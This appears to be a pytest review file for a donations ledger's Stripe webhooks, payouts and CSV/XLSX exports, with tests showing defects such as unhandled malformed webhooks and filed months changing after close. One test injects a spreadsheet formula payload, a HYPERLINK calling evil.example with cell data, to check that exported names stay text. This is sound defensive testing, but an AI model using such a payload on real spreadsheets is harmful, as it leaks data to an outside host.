"""Review of the accounting change (issue 5): each defect found is shown by a strict xfail; a few passing
tests add coverage that was missing (session time zones on PostgreSQL)."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, text

from donations.extensions import db
from donations.ledger.models import Donation, LedgerLine, Payout, StripeEvent
from donations.ledger.payouts import close_books, reconcile_payouts
from tests.dates import recent_days
from tests.factories import checkout_session, event, make_attempt, post_event
from tests.functional.test_payouts import (  # noqa: F401  (fixtures)
    T0, balance, books, charge_of, fake_balance, gift, payout_object,
)

OCTOBER = ["--from", "2026-10-01", "--to", "2026-10-31"]


def answer(client, evt) -> int | str:
    """The webhook's status code; an exception escaping the view (a 500 with a traceback in production)
    is returned as its name."""
    try:
        return post_event(client, evt).status_code
    except Exception as exc:  # noqa: BLE001 -- the test asserts on it
        return type(exc).__name__


def export(app, *args: str):
    result = app.test_cli_runner().invoke(args=["export", *args])
    assert result.exit_code == 0, result.output
    return result


def csv_rows(result) -> list[dict]:
    return list(csv.DictReader(io.StringIO(result.stdout)))


def paid_out(client, books) -> None:
    assert post_event(client, event("payout.paid", books["payout"])).status_code == 200
    reconcile_payouts()


# -- 1. formula injection in XLSX ----------------------------------------------------------------------


def test_a_name_from_stripe_with_a_control_character_never_becomes_an_xlsx_formula(app_ctx, client, tmp_path):
    attempt = make_attempt(name=None)
    db.session.commit()
    session = checkout_session(attempt)
    # Stripe's customer details are not cleaned like the donation form's fields.
    session["customer_details"]["name"] = '\x0b=HYPERLINK("https://evil.example/?d="&C2,"Open")'
    assert post_event(client, event("checkout.session.completed", session)).status_code == 200
    start, end = recent_days()  # yesterday and today: the gift is in it even if midnight passed since
    path = tmp_path / "d.xlsx"

    export(app_ctx, "donations", "--from", start, "--to", end, "--format", "xlsx", "--output", str(path))

    sheet = load_workbook(path)["EUR"]
    name = sheet.cell(row=2, column=4)
    assert name.data_type == "s", f"supporter_name is a formula: {name.value!r}"


# -- 2. malformed but signed webhooks --------------------------------------------------------------------


def test_a_signed_payout_event_missing_arrival_date_is_answered_not_a_500(app_ctx, client):
    obj = payout_object("po_bad", 1000)
    del obj["arrival_date"]

    code = answer(client, event("payout.paid", obj))

    assert code in (200, 400), code
    assert db.session.scalar(select(func.count()).select_from(Payout)) == 0


def test_a_signed_charge_updated_with_a_partial_balance_transaction_is_answered_not_a_500(app_ctx, client):
    donation = gift(client, 2500)
    charge = charge_of(donation, "ch_x")
    partial = balance("txn_x", "charge", 2500, 63, dict(charge))
    del partial["created"]
    charge["balance_transaction"] = partial

    code = answer(client, event("charge.updated", charge))

    assert code in (200, 400), code
    assert db.session.scalar(select(func.count()).select_from(LedgerLine)) == 0
    db.session.refresh(donation)
    assert donation.fee is None


# -- 3. payouts that cannot be listed starve the others --------------------------------------------------


def test_payouts_stripe_cannot_list_do_not_hold_up_newer_ones(books, client):
    for number in range(20):  # older payouts the balance_transactions?payout= listing refuses
        old = payout_object(f"po_old{number}", 100)
        old["created"] = T0 - 86400 * (number + 1)
        assert post_event(client, event("payout.paid", old)).status_code == 200
    assert post_event(client, event("payout.paid", books["payout"])).status_code == 200

    for _ in range(3):  # three runs of the books job
        reconcile_payouts()

    payout = db.session.scalars(select(Payout).where(Payout.stripe_payout_id == "po_1")).one()
    assert payout.reconciled_at is not None


# -- 4. failed payouts counted as money in the bank --------------------------------------------------------


def test_the_payouts_export_bank_amounts_add_up_to_what_reached_the_bank(books, client):
    failed = payout_object("po_1", books["bank"], status="failed", failure_txn="txn_po_1_failure")
    post_event(client, event("payout.paid", books["payout"], created=T0 + 86400))
    post_event(client, event("payout.failed", failed, created=T0 + 2 * 86400))
    again = payout_object("po_2", books["bank"])
    books["fake"].payouts["po_2"] = [
        balance("txn_po_1_failure", "payout_failure", books["bank"], 0, failed, created=T0 + 2 * 86400),
        balance("txn_po_2", "payout", -books["bank"], 0, again, created=T0 + 3 * 86400)]
    post_event(client, event("payout.paid", again))
    reconcile_payouts()

    rows = csv_rows(export(app_ctx_of(client), "payouts", *OCTOBER))

    assert {r["payout_id"]: r["status"] for r in rows} == {"po_1": "failed", "po_2": "paid"}
    reached = sum(Decimal(r["bank_amount"]) for r in rows)
    assert reached == Decimal(books["bank"]) / 100  # the money reached the bank once, with po_2


def app_ctx_of(client):
    return client.application


# -- 5. closed periods: filed months still change ---------------------------------------------------------


def test_a_payout_recorded_after_the_close_does_not_change_the_filed_month_s_payouts_export(books, client):
    before = csv_rows(export(client.application, "payouts", *OCTOBER))
    close_books(date(2026, 10, 31), "accountant@example.org")  # October is filed

    paid_out(client, books)  # po_1 arrived 29 October; Stripe's event reaches us late

    assert csv_rows(export(client.application, "payouts", *OCTOBER)) == before


def test_a_gift_booked_after_the_close_does_not_change_the_filed_month_s_donations_export(app_ctx, client):
    before = csv_rows(export(app_ctx, "donations", *OCTOBER))
    close_books(date(2026, 10, 31), "accountant@example.org")
    attempt = make_attempt()
    db.session.commit()
    # Stripe retries an event for three days: this one was made on 30 October and is delivered now.
    late = event("checkout.session.completed", checkout_session(attempt),
                 created=int(datetime(2026, 10, 30, 12, tzinfo=timezone.utc).timestamp()))
    assert post_event(client, late).status_code == 200

    assert csv_rows(export(app_ctx, "donations", *OCTOBER)) == before


# -- 6. donations XLSX: fees of another currency on a currency's sheet --------------------------------------


def test_each_donations_sheet_holds_amounts_of_its_own_currency_only(books, client, tmp_path):
    paid_out(client, books)  # gift b: $30.00 settled as €27.50, fee €1.10
    path = tmp_path / "d.xlsx"

    export(client.application, "donations", "--payout", "po_1", "--format", "xlsx", "--output", str(path))

    book = load_workbook(path)
    assert sorted(book.sheetnames) == ["EUR", "USD in EUR"]
    for sheet in book.worksheets:
        header = [c.value for c in next(sheet.iter_rows(max_row=1))]
        pairs = {(r["currency"], r["settlement_currency"] or r["currency"])
                 for r in (dict(zip(header, row)) for row in sheet.iter_rows(min_row=2, values_only=True))}
        assert len(pairs) == 1, (sheet.title, pairs)  # a column of one sheet never holds two currencies


# -- 7. session time zone on PostgreSQL (coverage) ------------------------------------------------------------

def test_a_new_york_session_time_zone_moves_no_export_boundary(postgres, app_ctx, client):
    from tests.functional.test_export import paid_donation

    late_evening = datetime(2026, 3, 10, 2, 30, tzinfo=timezone.utc)  # 9 March, 22:30 in New York
    donation = paid_donation(client, late_evening)
    db.session.execute(text("SET TIME ZONE 'America/New_York'"))
    assert db.session.scalar(text("SHOW TIME ZONE")) == "America/New_York"

    [row] = csv_rows(export(app_ctx, "donations", "--from", "2026-03-10", "--to", "2026-03-10"))
    assert row["paid_at"] == "2026-03-10T02:30:00Z"
    assert csv_rows(export(app_ctx, "donations", "--from", "2026-03-09", "--to", "2026-03-09")) == []
    assert donation.id == int(row["donation_id"])
